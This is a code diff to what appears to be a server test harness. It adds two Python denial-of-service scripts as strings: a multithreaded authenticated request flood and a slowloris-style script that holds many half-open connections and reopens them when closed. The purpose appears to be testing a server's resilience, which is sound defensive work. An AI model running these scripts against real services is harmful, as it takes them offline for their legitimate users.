@@ -84,6 +84,60 @@ print("ready", server.server_port, flush=True)
 server.serve_forever()
 """
 
+# Submits the same body again and again over several connections.
+FLOOD = """
+import http.client, sys, threading
+from urllib.parse import urlsplit
+url, token, body = urlsplit(sys.argv[1]), sys.argv[2], sys.argv[3].encode()
+print("ready", 0, flush=True)
+def flood(n):
+    while True:
+        connection = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
+        try:
+            while True:
+                changed = body.replace(b'"a"', b'"a%d"' % n, 1)
+                n += 100
+                headers = {"Authorization": "Bearer " + token, "Content-Type": "application/json"}
+                connection.request("POST", "/confirm", changed, headers)
+                connection.getresponse().read()
+        except OSError: connection.close()
+        except http.client.HTTPException: connection.close()
+threads = [threading.Thread(target=flood, args=(n,)) for n in range(8)]
+for thread in threads: thread.start()
+"""
+
+# Opens connections that never complete a request, and opens new ones when they are closed. The third argument says how
+# they dawdle: nothing sent, half of the headers, or half of a body.
+HALF_OPEN = """
+import resource, select, socket, sys, time
+from urllib.parse import urlsplit
+url, count, token = urlsplit(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
+head = "POST /confirm HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Type: application/json\\r\\n"
+body = head + "Authorization: Bearer " + token + "\\r\\nContent-Length: 200000\\r\\n\\r\\n{"
+texts = [b"", head.encode(), body.encode()]
+def connect(n):
+    made = socket.socket()
+    made.settimeout(20)
+    try:
+        made.connect((url.hostname, url.port))
+        made.sendall(texts[n % 3])
+    except OSError: pass
+    return made
+held = [connect(n) for n in range(count)]
+print("ready", 0, flush=True)
+while True:
+    poll = select.poll()
+    for n, one in enumerate(held): poll.register(one, select.POLLIN)
+    numbers = {one.fileno(): n for n, one in enumerate(held)}
+    for file, _ in poll.poll(1000)[:200]:
+        n = numbers[file]
+        held[n].close()
+        held[n] = connect(n)
+    time.sleep(0.05)
+"""
+
 
 class Attacker:
     """A running attack. `heard` is what it was sent; `port` is where it listens."""
